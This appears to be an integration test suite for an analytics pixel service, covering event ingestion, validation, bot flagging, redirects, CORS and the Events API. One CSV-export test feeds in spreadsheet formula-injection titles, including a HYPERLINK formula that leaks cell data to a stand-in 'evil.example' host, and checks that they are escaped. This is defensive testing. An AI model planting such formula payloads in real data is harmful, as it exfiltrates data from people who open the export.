// Ingest and the Events API end to end: what the collect endpoint accepts and rejects, and that
// accepted events come back through every query form with the right fields. Runs on DuckDB, and
// on ClickHouse too when CLICKHOUSE_URL is set.
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeTestApp, type TestApp } from '../support/app.js';
import { analyticsBackends } from '../support/backends.js';
import { createKey, dash, json, newTenant, type Tenant } from '../support/tenant.js';

const backends = analyticsBackends('events');

describe.each(backends)('on %s', (_name, env, cleanup) => {
  let t: TestApp;
  let a: Tenant;
  let key: { apiKey: string; apiSecret: string };
  let projectId: string;
  let pixelId: string;
  let otherPixelId: string;

  const CHROME = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';
  const BOT = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';

  async function makePixel(tenant: Tenant, project: string, title: string): Promise<string> {
    const res = await t.app.inject({
      method: 'POST',
      url: `/dashboard/api/orgs/${tenant.orgId}/projects/${project}/pixels`,
      headers: dash(tenant.session),
      payload: { title },
    });
    return json<{ pixel: { pixel_id: string } }>(res).pixel.pixel_id;
  }

  async function makeProject(tenant: Tenant): Promise<string> {
    const res = await t.app.inject({
      method: 'POST',
      url: `/dashboard/api/orgs/${tenant.orgId}/projects`,
      headers: dash(tenant.session),
      payload: { name: 'site' },
    });
    return json<{ project: { project_id: string } }>(res).project.project_id;
  }

  const ev = (over: Record<string, unknown> = {}) => ({
    event_type: 'page_view',
    event_data: { url: 'https://shop.example/pricing?utm_source=news&utm_campaign=fall', timestamp: new Date().toISOString() },
    pixel_id: pixelId,
    organization_id: a.orgId,
    visitor_id: 'v-1',
    session_id: 's-1',
    event_url: 'https://shop.example/pricing?utm_source=news&utm_campaign=fall',
    ts: Date.now(),
    screen: [1280, 800],
    lang: 'en-GB',
    title: 'Pricing',
    referrer: 'https://google.com/',
    ...over,
  });

  const send = (payload: unknown, headers: Record<string, string> = {}) =>
    t.app.inject({
      method: 'POST',
      url: '/pixel/core/api/send-event',
      headers: { 'user-agent': CHROME, 'content-type': 'application/json', ...headers },
      payload: typeof payload === 'string' ? payload : JSON.stringify(payload),
    });

  const auth = () => ({ 'x-api-key': key.apiKey, 'x-api-secret': key.apiSecret });
  const window = () => `start_ms=${Date.now() - 3_600_000}&end_ms=${Date.now() + 60_000}`;

  beforeAll(async () => {
    t = await makeTestApp({ IP_MODE: 'truncate', ...env });
    a = await newTenant(t);
    key = await createKey(t, a);
    projectId = await makeProject(a);
    pixelId = await makePixel(a, projectId, 'main');
    otherPixelId = await makePixel(a, projectId, 'blog');
  });
  afterAll(async () => {
    await t?.close();
    await cleanup?.();
  });

  describe('collect endpoint', () => {
    it('stores a single JSON event, enriched, and answers with its id only after it is queryable', async () => {
      const res = await send(ev({ visitor_id: 'v-single' }));
      expect(res.statusCode, res.body).toBe(200);
      const { status, event_ids } = json<{ status: string; event_ids: string[] }>(res);
      expect(status).toBe('ok');
      expect(event_ids).toHaveLength(1);
      // No wait: acknowledged means committed.
      const q = await t.app.inject({
        url: `/api/v2/events?source=pixel&pixel_id=${pixelId}&${window()}&filter=visitor_id:eq:v-single`,
        headers: auth(),
      });
      const rows = json<{ events: Record<string, unknown>[] }>(q).events;
      expect(rows).toHaveLength(1);
      expect(rows[0]).toMatchObject({
        event_id: event_ids[0],
        event_type: 'page_view',
        organization_id: a.orgId,
        project_id: projectId,
        pixel_id: pixelId,
        visitor_id: 'v-single',
        session_id: 's-1',
        url: 'https://shop.example/pricing?utm_source=news&utm_campaign=fall',
        path: '/pricing',
        referrer: 'https://google.com/',
        title: 'Pricing',
        browser: 'Chrome',
        os: 'Linux',
        device_type: 'desktop',
        ip: '127.0.0.0',
        language: 'en-GB',
        screen_width: 1280,
        screen_height: 800,
        utm_source: 'news',
        utm_campaign: 'fall',
        utm_medium: null,
        is_bot: false,
        resolved: false,
        hem_sha256: null,
      });
      expect(JSON.parse(rows[0]?.event_data as string)).toMatchObject({
        url: 'https://shop.example/pricing?utm_source=news&utm_campaign=fall',
      });
    });

    it('accepts text/plain bodies (beacons) and batches; a bad member is rejected by index, the good ones stored', async () => {
      const visitor = `v-${randomUUID()}`;
      const res = await send(
        {
          events: [
            ev({ visitor_id: visitor }),
            { event_type: '', pixel_id: pixelId },
            ev({ visitor_id: visitor, event_type: 'click' }),
            'junk',
          ],
        },
        { 'content-type': 'text/plain;charset=UTF-8' },
      );
      expect(res.statusCode, res.body).toBe(200);
      const body = json<{ accepted: number; rejected: { index: number; reason: string }[]; event_ids: string[] }>(res);
      expect(body.accepted).toBe(2);
      expect(body.rejected.map((r) => r.index)).toEqual([1, 3]);
      expect(body.rejected[0]?.reason).toMatch(/event_type/);
      const q = await t.app.inject({
        url: `/api/v1/events?pixel_id=${pixelId}&${window()}&filter=visitor_id:eq:${visitor}`,
        headers: auth(),
      });
      expect(
        json<{ events: { event_type: string }[] }>(q)
          .events.map((e) => e.event_type)
          .sort(),
      ).toEqual(['click', 'page_view']);
    });

    it('rejects malformed, oversized and unknown-pixel payloads with a 4xx and a reason', async () => {
      const cases: [unknown, number, RegExp][] = [
        ['{not json', 400, /JSON/],
        [[1, 2], 400, /event object/],
        [{ events: [] }, 400, /empty/],
        [ev({ pixel_id: 'nope' }), 400, /pixel_id/],
        [ev({ pixel_id: randomUUID() }), 404, /Pixel not found/],
        [ev({ organization_id: randomUUID() }), 404, /Pixel not found/],
        [ev({ event_data: 'x'.repeat(10) }), 400, /event_data/],
        [ev({ event_data: { blob: 'x'.repeat(20_000) } }), 400, /event_data is larger/],
        [ev({ event_url: 'javascript:alert(1)' }), 400, /event_url/],
        [ev({ ts: 'yesterday' }), 400, /ts/],
        [ev({ hem_sha256: 'ABC' }), 400, /hem_sha256/],
        [{ events: Array.from({ length: 101 }, () => ev()) }, 400, /at most 100/],
        [ev({ title: 'x'.repeat(300_000) }), 413, /too large/],
      ];
      for (const [payload, status, reason] of cases) {
        const res = await send(payload);
        expect(res.statusCode, `${JSON.stringify(payload).slice(0, 80)} → ${res.body}`).toBe(status);
        const body = json<{ error: string; details?: string }>(res);
        expect(`${body.error} ${body.details ?? ''}`).toMatch(reason);
      }
    });

    it('flags bots, keeps them out of results by default and shows them with include_bots=true', async () => {
      const visitor = `bot-${randomUUID()}`;
      expect((await send(ev({ visitor_id: visitor }), { 'user-agent': BOT })).statusCode).toBe(200);
      const base = `/api/v2/events?source=pixel&pixel_id=${pixelId}&${window()}&filter=visitor_id:eq:${visitor}`;
      expect(json<{ events: unknown[] }>(await t.app.inject({ url: base, headers: auth() })).events).toHaveLength(0);
      const withBots = json<{ events: { is_bot: boolean; device_type: string }[] }>(
        await t.app.inject({ url: `${base}&include_bots=true`, headers: auth() }),
      );
      expect(withBots.events).toMatchObject([{ is_bot: true, device_type: 'bot' }]);
      const metrics = (await t.app.inject({ url: '/metrics' })).body;
      expect(metrics).toMatch(/delivr_ingest_events_total\{outcome="bot"\} [1-9]/);
      expect(metrics).toMatch(/delivr_ingest_rejected_total\{reason="unknown_pixel"\} [1-9]/);
      expect(metrics).toMatch(/delivr_ingest_commit_seconds_count [1-9]/);
      expect(metrics).toMatch(/delivr_ingest_event_to_queryable_seconds_count [1-9]/);
    });

    it('GET send-event/get takes URL-encoded fields and follows redir with placeholders', async () => {
      const qs = new URLSearchParams({
        event_type: 'conversion',
        event_data: JSON.stringify({ value: 42 }),
        organization_id: a.orgId,
        pixel_id: pixelId,
        event_url: 'https://shop.example/thanks',
        visitor_id: 'v-get',
        redir: 'https://partner.example/sync?uid=$DLVRCOOKIE&t=$EVENTTIME',
      });
      // Redirects go only to hosts the pixel's owner registered.
      const refused = await t.app.inject({ url: `/pixel/core/api/send-event/get?${qs}`, headers: { 'user-agent': CHROME } });
      expect(refused.statusCode).toBe(400);
      expect(refused.json()).toMatchObject({ code: 'redirect_not_allowed' });
      const registered = await t.app.inject({
        method: 'PATCH',
        url: `/dashboard/api/orgs/${a.orgId}/pixels/${pixelId}`,
        headers: dash(a.session),
        payload: { redirect_hosts: ['partner.example'] },
      });
      expect(registered.statusCode, registered.body).toBe(200);
      const res = await t.app.inject({ url: `/pixel/core/api/send-event/get?${qs}`, headers: { 'user-agent': CHROME } });
      expect(res.statusCode).toBe(302);
      expect(res.headers.location).toMatch(/^https:\/\/partner\.example\/sync\?uid=v-get&t=\d{13}$/);
      qs.delete('redir');
      qs.set('event_url', 'not a url');
      expect((await t.app.inject({ url: `/pixel/core/api/send-event/get?${qs}` })).statusCode).toBe(400);
    });

    it('is open to any site: CORS on responses and preflight, without credentials', async () => {
      const res = await send(ev(), { origin: 'https://shop.example' });
      expect(res.headers['access-control-allow-origin']).toBe('*');
      expect(res.headers['access-control-allow-credentials']).toBeUndefined();
      const pre = await t.app.inject({
        method: 'OPTIONS',
        url: '/pixel/core/api/send-event',
        headers: { origin: 'https://x.example', 'access-control-request-method': 'POST' },
      });
      expect(pre.statusCode).toBe(204);
      expect(pre.headers['access-control-allow-methods']).toContain('POST');
    });

    it('serves the pixel script with its config and caching headers; unknown and deleted pixels 404', async () => {
      const res = await t.app.inject({ url: `/pixels/${pixelId}/p.js` });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toMatch(/javascript/);
      expect(res.headers['cache-control']).toMatch(/max-age=\d+/);
      expect(res.body).toContain(pixelId);
      expect(res.body).toContain(a.orgId);
      expect(res.body).toContain('http://delivr.test/pixel/core/api/send-event');
      const again = await t.app.inject({ url: `/pixels/${pixelId}/p.js`, headers: { 'if-none-match': String(res.headers.etag) } });
      expect(again.statusCode).toBe(304);
      expect((await t.app.inject({ url: `/pixels/${randomUUID()}/p.js` })).statusCode).toBe(404);
      const doomed = await makePixel(a, projectId, 'doomed');
      await t.app.inject({ method: 'DELETE', url: `/dashboard/api/orgs/${a.orgId}/pixels/${doomed}`, headers: dash(a.session) });
      await new Promise((r) => setTimeout(r, 2100)); // the pixel cache's lifetime
      expect((await t.app.inject({ url: `/pixels/${doomed}/p.js` })).statusCode).toBe(404);
    });
  });

  describe('Events API', () => {
    const visitor = `q-${randomUUID()}`;
    const t0 = Date.now() - 2 * 3_600_000;
    beforeAll(async () => {
      const events = [];
      for (let i = 0; i < 30; i++) {
        events.push(
          ev({ visitor_id: visitor, ts: t0 + i * 60_000, event_type: i % 3 === 0 ? 'click' : 'page_view', session_id: `s-${i % 4}` }),
        );
      }
      expect((await send({ events })).statusCode).toBe(200);
      expect((await send(ev({ visitor_id: visitor, pixel_id: otherPixelId, ts: t0 }))).statusCode).toBe(200);
    });
    const scope = () => `source=pixel&pixel_id=${pixelId}&start_ms=${t0}&end_ms=${t0 + 3_600_000}&filter=visitor_id:eq:${visitor}`;

    it('offset paging with limit/offset, ordered by time; select and distinct', async () => {
      const page1 = json<{ events: { ts_millis: number }[]; count: number; limit: number; offset: number }>(
        await t.app.inject({ url: `/api/v2/events?${scope()}&limit=10&offset=0`, headers: auth() }),
      );
      const page2 = json<{ events: { ts_millis: number }[] }>(
        await t.app.inject({ url: `/api/v2/events?${scope()}&limit=10&offset=10`, headers: auth() }),
      );
      expect(page1).toMatchObject({ count: 10, limit: 10, offset: 0 });
      expect(page1.events.map((e) => e.ts_millis)).toEqual(Array.from({ length: 10 }, (_, i) => t0 + i * 60_000));
      expect(page2.events[0]?.ts_millis).toBe(t0 + 10 * 60_000);
      const sel = json<{ events: Record<string, unknown>[] }>(
        await t.app.inject({ url: `/api/v2/events?${scope()}&select=event_type,ts_millis&limit=1`, headers: auth() }),
      );
      expect(Object.keys(sel.events[0] ?? {}).sort()).toEqual(['event_type', 'ts_millis']);
      const dis = json<{ events: Record<string, unknown>[] }>(
        await t.app.inject({ url: `/api/v2/events?${scope()}&distinct=session_id&select=session_id`, headers: auth() }),
      );
      expect(dis.events.map((e) => e.session_id).sort()).toEqual(['s-0', 's-1', 's-2', 's-3']);
    });

    it('filter grammar: AND, OR, quoted values; project scope covers all its pixels', async () => {
      const clicks = json<{ events: unknown[] }>(
        await t.app.inject({ url: `/api/v2/events?${scope()},event_type:eq:click`, headers: auth() }),
      );
      expect(clicks.events).toHaveLength(10);
      const or = json<{ events: unknown[] }>(
        await t.app.inject({
          url: `/api/v2/events?${scope()},session_id:eq:"s-0"|visitor_id:eq:${visitor},session_id:eq:s-1`,
          headers: auth(),
        }),
      );
      expect(or.events).toHaveLength(16);
      const project = json<{ events: { pixel_id: string }[] }>(
        await t.app.inject({
          url: `/api/v2/events?source=pixel&project_id=${projectId}&start_ms=${t0}&end_ms=${t0 + 3_600_000}&filter=visitor_id:eq:${visitor}`,
          headers: auth(),
        }),
      );
      expect(new Set(project.events.map((e) => e.pixel_id))).toEqual(new Set([pixelId, otherPixelId]));
    });

    it('counts, distinct counts and hourly buckets', async () => {
      const c = await t.app.inject({ url: `/api/v2/event_counts?${scope()}`, headers: auth() });
      expect(json(c)).toEqual({ count: 30 });
      expect(json(await t.app.inject({ url: `/api/v1/event_counts?${scope()}&distinct=session_id`, headers: auth() }))).toEqual({
        count: 4,
      });
      const b = json<{ count: number; buckets: { start_ms: number; count: number }[] }>(
        await t.app.inject({ url: `/api/v2/event_counts?${scope()}&interval=hour`, headers: auth() }),
      );
      expect(b.buckets.reduce((n, x) => n + x.count, 0)).toBe(30);
      expect(b.buckets.every((x) => x.start_ms % 3_600_000 === 0)).toBe(true);
    });

    it('enforces the 25-hour window for offset paging; cursor paging and export span longer ranges', async () => {
      const long = `source=pixel&pixel_id=${pixelId}&start_ms=${t0 - 10 * 86_400_000}&end_ms=${t0 + 3_600_000}&filter=visitor_id:eq:${visitor}`;
      const refused = await t.app.inject({ url: `/api/v2/events?${long}`, headers: auth() });
      expect(refused.statusCode).toBe(400);
      expect(json(refused)).toMatchObject({ error: 'Invalid parameters.', details: expect.stringMatching(/25 hours/) });
      const seen: number[] = [];
      let cursor = '';
      for (let pages = 0; pages < 10; pages++) {
        const res = json<{ events: { ts_millis: number }[]; next_cursor: string | null }>(
          await t.app.inject({
            url: `/api/v2/events?${long}&page_size=7&select=ts_millis${cursor ? `&cursor=${cursor}` : ''}`,
            headers: auth(),
          }),
        );
        seen.push(...res.events.map((e) => e.ts_millis));
        if (!res.next_cursor) break;
        cursor = res.next_cursor;
      }
      expect(seen).toEqual(Array.from({ length: 30 }, (_, i) => t0 + i * 60_000));
      const nd = await t.app.inject({ url: `/api/v2/events/export?${long}&format=ndjson`, headers: auth() });
      expect(nd.headers['content-type']).toMatch(/ndjson/);
      expect(
        nd.body
          .trim()
          .split('\n')
          .map((l) => JSON.parse(l).ts_millis),
      ).toEqual(seen);
      const csv = await t.app.inject({ url: `/api/v2/events/export?${long}&format=csv&select=event_type,title`, headers: auth() });
      const lines = csv.body.trim().split('\r\n');
      expect(lines[0]).toBe('event_type,title');
      expect(lines).toHaveLength(31);
    });

    it('CSV export: visitor-controlled cells that a spreadsheet would run as formulas come out escaped', async () => {
      const visitor = `csv-${randomUUID()}`;
      const start = Date.now() - 3_600_000;
      const titles = [
        '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
        '+1+2',
        '-2+3',
        '@SUM(1,2)',
        '\tcmd',
        '\rcmd',
        'Pricing, plans',
      ];
      const stored = await send({ events: titles.map((title, i) => ev({ visitor_id: visitor, title, ts: start + i * 1000 })) });
      expect(json<{ event_ids: string[] }>(stored).event_ids).toHaveLength(titles.length);
      const csv = await t.app.inject({
        url: `/api/v2/events/export?source=pixel&pixel_id=${pixelId}&start_ms=${start}&end_ms=${start + 60_000}&filter=visitor_id:eq:${visitor}&format=csv&select=title,ts_millis`,
        headers: auth(),
      });
      expect(csv.statusCode, csv.body).toBe(200);
      expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(csv.body).toBe(
        [
          'title,ts_millis',
          `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")",${start}`,
          `'+1+2,${start + 1000}`,
          `'-2+3,${start + 2000}`,
          `"'@SUM(1,2)",${start + 3000}`,
          `'\tcmd,${start + 4000}`,
          `"'\rcmd",${start + 5000}`,
          `"Pricing, plans",${start + 6000}`,
          '',
        ].join('\r\n'),
      );
    });

    it('rejects bad parameters with 400 and a reason', async () => {
      for (const q of [
        `pixel_id=${pixelId}`,
        `pixel_id=${pixelId}&start_ms=10&end_ms=5`,
        `pixel_id=${pixelId}&start_ms=abc&end_ms=5`,
        `start_ms=1&end_ms=5`,
        `source=dsp&campaign_id=cmp_1&start_ms=1&end_ms=5`,
        `pixel_id=${pixelId}&start_ms=1&end_ms=5&filter=nosuch:eq:1`,
        `pixel_id=${pixelId}&start_ms=1&end_ms=5&select=password`,
        `pixel_id=${pixelId}&start_ms=1&end_ms=5&limit=0`,
        `pixel_id=${pixelId}&start_ms=1&end_ms=5&cursor=garbage`,
      ]) {
        const res = await t.app.inject({ url: `/api/v2/events?${q}`, headers: auth() });
        expect(res.statusCode, `${q} → ${res.body}`).toBe(400);
        expect(json(res).error).toBe('Invalid parameters.');
      }
    });

    it('another organization never sees these events', async () => {
      const b = await newTenant(t);
      const bKey = await createKey(t, b);
      const h = { 'x-api-key': bKey.apiKey, 'x-api-secret': bKey.apiSecret };
      const direct = await t.app.inject({ url: `/api/v2/events?${scope()}`, headers: h });
      expect(direct.statusCode).toBe(404);
      expect(direct.body).not.toContain(visitor);
      const byProject = await t.app.inject({
        url: `/api/v2/event_counts?source=pixel&project_id=${projectId}&start_ms=${t0}&end_ms=${t0 + 1000}`,
        headers: h,
      });
      expect(byProject.statusCode).toBe(404);
      const byOrg = await t.app.inject({
        url: `/api/v1/events?organization_id=${a.orgId}&start_ms=${t0}&end_ms=${t0 + 3_600_000}`,
        headers: h,
      });
      expect(byOrg.statusCode).toBe(404);
      // B's own org scope returns nothing of A's.
      const own = await t.app.inject({
        url: `/api/v1/events?organization_id=${b.orgId}&start_ms=${t0}&end_ms=${t0 + 3_600_000}`,
        headers: h,
      });
      expect(json(own)).toMatchObject({ events: [], count: 0 });
    });
  });
});
